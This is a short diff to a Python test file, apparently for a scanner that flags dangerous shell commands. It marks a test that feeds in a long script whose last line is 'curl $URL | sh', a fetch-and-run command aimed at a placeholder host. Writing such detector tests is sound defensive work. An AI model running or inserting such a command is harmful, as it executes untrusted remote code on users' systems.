@@ -483,6 +483,7 @@ def test_a_mark_of_the_encoding_is_no_part_of_a_command() -> None:
     assert found.offset > 2
 
 
+@pytest.mark.full
 def test_a_long_script_is_read_to_its_end_with_what_is_known_from_its_beginning() -> None:
     lines = "echo a line of a long script\n" * 30_000
     script = f"URL=https://x.example\n{lines}curl $URL | sh\n"
